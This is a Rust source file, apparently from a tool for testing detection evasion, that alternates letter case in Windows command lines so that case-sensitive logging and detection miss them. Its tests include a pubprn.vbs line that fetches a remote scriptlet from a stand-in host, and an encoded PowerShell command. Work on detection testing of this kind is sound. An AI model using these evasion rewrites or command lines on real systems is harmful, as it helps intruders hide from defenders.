//! Upper and lower case in turns.

use crate::advice::evade::line::{Edit, Line, Program};
use crate::advice::evade::mutation::{Changes, Mutated, Mutation};
use crate::advice::evade::paths::paths;
use crate::advice::evade::powershell;
use std::collections::HashSet;
use std::ops::Range;

pub const LETTER_CASE: Mutation = Mutation {
    name: "letter_case",
    title: "Upper and lower case in turns",
    why: "Windows looks up files without regard to case, and so do these programs with their switches. What is logged is what was typed.",
    layer: "Windows and the program",
    source: "https://learn.microsoft.com/en-us/windows/win32/fileio/naming-a-file",
    changes: Changes::Case,
    apply,
};

/// Changes the program, paths, and the words whose reader is known to ignore case. Addresses and
/// what is encoded keep theirs.
fn apply(line: &Line<'_>) -> Vec<Mutated> {
    let mut edits: Vec<Edit> = Vec::new();
    let mut changed = HashSet::new();
    let mut change = |place: Range<usize>| {
        if changed.insert(place.start) {
            edits.push((place.clone(), in_turns(&line.text[place])));
        }
    };
    for arg in line.plain_args() {
        let raw = line.raw(arg);
        let place = line.place(arg);
        // A moniker's name is looked up in the registry, which ignores case.
        let moniker = raw
            .find(':')
            .filter(|_| raw.to_ascii_lowercase().starts_with("script:"));
        if arg == 0 || Some(arg) == line.script || ignores_case(line, arg) {
            change(place);
        } else if let Some(colon) = moniker {
            change(place.start..place.start + colon);
        }
    }
    // One in quotes stays as it is: its argument may have been changed with them.
    let begin: HashSet<usize> = line.plain_args().map(|arg| line.place(arg).start).collect();
    for path in paths(line) {
        let quoted = path.place.start.checked_sub(1);
        if !quoted.is_some_and(|start| begin.contains(&start)) {
            change(path.place);
        }
    }
    if let Some(code) = &line.code {
        let (words, _) = powershell::words(line.text, code);
        let commands = words.into_iter().filter(|word| word.is_command);
        commands.for_each(|word| change(word.place));
    }
    line.change("", edits).into_iter().collect()
}

/// Whether the program compares this argument without regard to case.
fn ignores_case(line: &Line<'_>, arg: usize) -> bool {
    let text = &line.args[arg].text;
    let is_switch = text.starts_with(['-', '/']) && !text.contains(':');
    match line.program {
        Program::ScriptHost if line.script.is_none_or(|script| arg < script) => is_switch,
        Program::PowerShell => is_switch,
        Program::ScriptHost | Program::Script if line.is_winrm() => {
            is_switch || line.script.is_some_and(|script| arg == script + 1)
        }
        _ => false,
    }
}

fn in_turns(text: &str) -> String {
    let mut upper = false;
    let turn = |c: char| {
        if !c.is_ascii_alphabetic() {
            return c;
        }
        upper = !upper;
        if upper {
            c.to_ascii_uppercase()
        } else {
            c.to_ascii_lowercase()
        }
    };
    text.chars().map(turn).collect()
}

#[cfg(test)]
mod tests {
    use super::super::logged;
    use super::*;

    #[test]
    fn files_switches_and_monikers_change_and_addresses_do_not() {
        assert_eq!(
            logged(
                &LETTER_CASE,
                r"cscript //b C:\x\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct"
            ),
            [r"CsCrIpT //B C:\x\PuBpRn.VbS 127.0.0.1 ScRiPt:https://example.com/a.sct"]
        );
        assert_eq!(
            logged(&LETTER_CASE, r#"powershell -enc dwBoAG8AYQBtAGkA"#),
            ["PoWeRsHeLl -EnC dwBoAG8AYQBtAGkA"]
        );
        assert_eq!(
            logged(&LETTER_CASE, r#"powershell -c "ipmo .\a.ps1; RegSnapin x""#),
            [r#"PoWeRsHeLl -C "IpMo .\A.pS1; ReGsNaPiN x""#]
        );
        // Bash's own switches mind case.
        assert_eq!(logged(&LETTER_CASE, "bash -c id"), ["BaSh -c id"]);
    }
}
